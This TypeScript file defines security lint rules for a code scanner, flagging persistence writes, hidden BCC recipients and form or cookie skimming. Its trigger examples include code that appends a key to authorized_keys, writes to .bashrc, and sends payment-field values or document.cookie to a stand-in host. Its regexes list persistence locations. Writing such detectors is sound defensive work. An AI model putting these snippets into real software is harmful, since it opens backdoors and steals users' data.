// Flags a program or a build that gives somebody lasting access to the machine it runs on.
import { rule } from '../../../core/rule.ts'
import { excerpt } from '../../../core/well-formed.ts'
import { holds, type TreeNode } from '../../../syntax/tree.ts'
import { adds } from '../../example-diff.ts'
import { ownerOf, textOf } from '../../image.ts'
import { hit, judgeNode } from '../../node-judge.ts'
import type { UseFacts } from '../../uses.ts'

export const staysOn = rule({
  id: 'code.effect.way_back_in',
  since: '2.5.0',
  severity: 'blocker',
  category: 'security',
  evidence: 'B',
  source: 'https://attack.mitre.org/tactics/TA0003/',
  message: ({ shown }: UseFacts) =>
    `The program writes to \`${shown}\`, which lets whoever wrote the line in, or runs it again, on every machine that builds or starts it.`,
  fix: 'Leave accounts and start files to whoever runs the machine.',
  fires: [
    adds(
      'build.rs',
      'fn main() {',
      '    let to = home.join(".ssh").join("authorized_keys");',
      '    let mut f = OpenOptions::new().append(true).open(to).unwrap();',
      '    writeln!(f, "{}", KEY).unwrap();',
    ),
    adds(
      'setup.py',
      'import os',
      'with open(os.path.expanduser("~/.bashrc"), "a") as rc:',
      '    rc.write(LINE)',
    ),
  ],
  quiet: [
    adds('lib/keys.py', 'def read(home):', '    return open(home + "/.ssh/authorized_keys").read()'),
    adds(
      'lib/log.py',
      'def note(line):',
      '    with open("events.log", "a") as log:',
      '        log.write(line)',
    ),
  ],
})

const PLACES =
  /(?:^|\/)(?:authorized_keys2?|\.bashrc|\.bash_profile|\.zshrc|\.profile|\.zshenv|sudoers|ld\.so\.preload|crontab)$|\/etc\/(?:cron|sudoers|profile|rc\.local|init\.d)|\/var\/spool\/cron|LaunchAgents\/|LaunchDaemons\/|autostart\/|CurrentVersion\\{1,2}Run/
const WRITES =
  /^(?:append|create|write\w*|appendFile\w*|writeFile\w*|write_text|write_all|WriteString|WriteAllText|AppendAllText|file_put_contents|OpenFile|Create|copy\w*|copyFile\w*|install)!?$/

export const judgeWaysBack = judgeNode(
  (tree, { image, change }) => {
    if (change.isTest || tree.kind !== 'string' || !PLACES.test(tree.name)) return null
    const around = ownerOf(image, tree, 'function') ?? image.root
    const writes = holds(around, (one) => isWriting(one))
    return writes ? hit(staysOn, tree, { shown: excerpt(textOf(image.side, tree), 60) }) : null
  },
  null,
  [
    /authorized_keys|\.bash|\.zsh|\.profile|sudoers|ld\.so\.preload|cron|\/etc\/|Launch(?:Agents|Daemons)|autostart|CurrentVersion/,
  ],
)

const isWriting = ({ kind, left, items }: TreeNode): boolean =>
  kind === 'call' &&
  (WRITES.test(left?.name ?? '') ||
    (/^(?:open|fopen|File|new)$/.test(left?.name ?? '') &&
      items.some((one) => one.kind === 'string' && /^(?:a|w|a\+|w\+|ab|wb)$/.test(one.name))))

export const hiddenReader = rule({
  id: 'code.effect.hidden_reader',
  since: '2.5.0',
  severity: 'blocker',
  category: 'security',
  evidence: 'B',
  source: 'https://attack.mitre.org/techniques/T1114/003/',
  message: ({ shown }: UseFacts) =>
    `\`${shown}\` sends a copy to an address that is written here and that neither sender nor reader sees.`,
  fix: 'Take it out; whoever archives mail does it at the server, with the knowledge of those who write.',
  fires: [
    adds('mail/out.py', 'def deliver(msg, rcpt):', '    rcpt.append("copies@archive.example")'),
    adds('mail/out.js', 'export function build(msg) {', "  msg.bcc = 'copies@archive.example'"),
  ],
  quiet: [
    adds('mail/out.py', 'def deliver(msg, rcpt):', '    rcpt.append(msg.reply_to)'),
    adds('mail/out.js', 'export function build(msg) {', "  msg.replyTo = 'help@shop.example'"),
  ],
})

const READERS = /^(?:rcpts?|recipients?|bcc|to_addrs?|envelope_?to|mail_?to|receivers?)$/i
const ADDRESS = /^[\w.+-]{1,64}@[\w-]{1,64}(?:\.[\w-]{1,40}){1,4}$/

export const judgeReaders = judgeNode(
  (tree, { image, change }) => {
    if (change.isTest) return null
    const isAddress = (one: TreeNode | null | undefined): boolean =>
      one?.kind === 'string' && one.items.length === 0 && ADDRESS.test(one.name)
    const facts = (): UseFacts => ({ shown: excerpt(textOf(image.side, tree), 80) })
    if (
      tree.kind === 'call' &&
      /^(?:append|push|add|extend|addBcc|AddBcc|bcc)$/.test(tree.left?.name ?? '')
    ) {
      const isBcc = /^(?:addBcc|AddBcc|bcc)$/.test(tree.left?.name ?? '')
      const owner = tree.left?.left?.name ?? ''
      return tree.items.some(isAddress) && (isBcc || READERS.test(owner))
        ? hit(hiddenReader, tree, facts())
        : null
    }
    if (tree.kind !== 'assign' && tree.kind !== 'pair') return null
    const name = tree.kind === 'pair' ? tree.name : (tree.left?.name ?? '')
    return /^bcc$/i.test(name) && isAddress(tree.right) ? hit(hiddenReader, tree, facts()) : null
  },
  null,
  [/rcpt|recipient|bcc|to_addr|envelope_?to|mail_?to|receiver/i, /@/],
)

export const skims = rule({
  id: 'code.effect.skims_page',
  since: '2.5.0',
  severity: 'blocker',
  category: 'security',
  evidence: 'B',
  source: 'https://attack.mitre.org/techniques/T1056/003/',
  message: ({ shown }: UseFacts) =>
    `\`${shown}\` sends what people type, or their cookies, to a host that is written here.`,
  fix: 'Take it out; measure a page without the content of its fields.',
  fires: [
    adds(
      'web/pay.js',
      'form.onsubmit = () => {',
      '  const all = {};',
      "  document.querySelectorAll('#pay input').forEach((one) => { all[one.name] = one.value; });",
      "  navigator.sendBeacon('https://stats.example/e', JSON.stringify(all));",
    ),
    adds(
      'web/track.js',
      'export function start() {',
      "  fetch('https://stats.example/c', { method: 'POST', body: document.cookie })",
    ),
  ],
  quiet: [
    adds(
      'web/pay.js',
      'form.onsubmit = () => {',
      "  navigator.sendBeacon('https://stats.example/e', JSON.stringify({ page: 'pay' }));",
    ),
    adds(
      'web/pay.js',
      'form.onsubmit = () => {',
      "  const all = document.querySelectorAll('#pay input').length;",
      "  fetch('/pay', { method: 'POST', body: all })",
    ),
  ],
})

const SENDS = /^(?:navigator\.sendBeacon|fetch|window\.fetch|axios\.post|\$\.post|\$\.ajax)$/
const FIELDS =
  /querySelectorAll\(\s*["'`][^"'`\n]{0,80}input|new FormData\(|document\.cookie|getElementsByTagName\(\s*["']input/

export const judgeSkimming = judgeNode(
  (tree, { image, change, path }) => {
    if (change.isTest || image.language !== 'js' || tree.kind !== 'call' || !SENDS.test(path)) return null
    const [place] = tree.items
    if (place?.kind !== 'string' || !/^(?:https?:)?\/\//.test(place.name)) return null
    const fn = ownerOf(image, tree, 'function') ?? image.root
    const text = textOf(image.side, fn)
    const sent = tree.items
      .slice(1)
      .map((one) => textOf(image.side, one))
      .join(' ')
    if (/document\.cookie|localStorage/.test(sent))
      return hit(skims, tree, { shown: excerpt(textOf(image.side, tree), 90) })
    if (!FIELDS.test(text) || !/\.value\b|FormData/.test(text)) return null
    // What was taken from the fields is in what is sent.
    const taken = [
      ...text.matchAll(
        /\b(\w{1,40})\[[^\]\n]{1,60}\]\s*=\s*[\w.]{1,60}\.value\b|\b(\w{1,40})\s*=\s*new FormData\(/g,
      ),
    ].flatMap(([, a, b]) => [a ?? b ?? ''])
    return taken.some((name) => name !== '' && new RegExp(`\\b${name}\\b`).test(sent))
      ? hit(skims, tree, { shown: excerpt(textOf(image.side, tree), 90) })
      : null
  },
  null,
  [
    /sendBeacon|fetch|axios|\$\.(?:post|ajax)/,
    /FormData|document\.cookie|localStorage|querySelectorAll|getElementsByTagName/,
  ],
)
